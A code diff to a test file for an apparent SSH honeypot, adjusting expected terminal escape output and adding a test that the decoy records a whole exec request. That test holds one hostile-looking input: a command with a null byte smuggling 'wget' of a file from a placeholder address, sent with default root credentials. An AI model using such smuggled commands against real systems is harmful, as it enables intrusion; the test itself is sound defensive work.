@@ -7,10 +7,11 @@ import asyncio
 import errno
 import hashlib
 from collections.abc import AsyncIterator
+from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.decnet_decoys.decky_host import DeckyHost
+from tests.decnet_decoys.decky_host import DeckyHost, fleet_settings
 
 from decnet_core.events.catalogue import CommandRun, FileCaptured, ServiceRequest, SessionClosed, SessionOpened
 from decnet_decoys.evidence.session_recorder import SessionRecorder
@@ -19,7 +20,7 @@ from decnet_decoys.ssh.channel import Unread
 from decnet_decoys.ssh.engine import asyncssh
 
 DEADLINE = 120.0
-PROMPT = b"root@web-01:~# "
+PROMPT = b"\x1b[?2004hroot@web-01:~# "
 
 
 @pytest.fixture
@@ -122,10 +123,10 @@ async def test_a_shell_reads_what_is_typed_and_logs_out_at_the_end(connection: A
     process = await connection.create_process(term_type="xterm", encoding=None)
     await process.stdout.readuntil(PROMPT)
     process.stdin.write(b"id -u\r")
-    assert await process.stdout.readuntil(PROMPT) == b"id -u\r\n0\r\n" + PROMPT
+    assert await process.stdout.readuntil(PROMPT) == b"id -u\r\n\x1b[?2004l\r0\r\n" + PROMPT
     process.stdin.write(b"\x04")
     done = await asyncio.wait_for(process.wait(), DEADLINE)
-    assert (done.stdout, done.exit_status) == (b"logout\r\n", 0)
+    assert (done.stdout, done.exit_status) == (b"\x1b[?2004l\r\r\nlogout\r\n", 0)
     assert [run.command for run in await host.until(CommandRun)] == ["id -u"]
 
 
@@ -174,3 +175,19 @@ async def test_a_client_may_send_little_ahead(connection: Any) -> None:
     process = await connection.create_process("sleep 60")
     assert process.channel._send_window == OpenSsh.window
     process.close()
+
+
+async def test_what_dropbear_leaves_out_of_a_command_is_on_record(tmp_path: Path) -> None:
+    host = DeckyHost(tmp_path, fleet_settings("nas", offers=("ssh",)))
+    await host.open()
+    options: Any = {"known_hosts": None, "config": None, "client_keys": None}
+    try:
+        address, port = host.decky.address, host.decky.services["ssh"]
+        async with asyncssh.connect(address, port, username="root", password="admin", **options) as client:
+            assert (await client.run("echo seen\0; wget http://192.0.2.1/x")).stdout == "seen\n"
+        (run,) = await host.until(CommandRun)
+        assert run.command == "echo seen"
+        (whole,) = [one for one in await host.until(ServiceRequest) if one.action == "exec"]
+        assert whole.detail == {"command": "echo seen\0; wget http://192.0.2.1/x"}
+    finally:
+        await host.close()
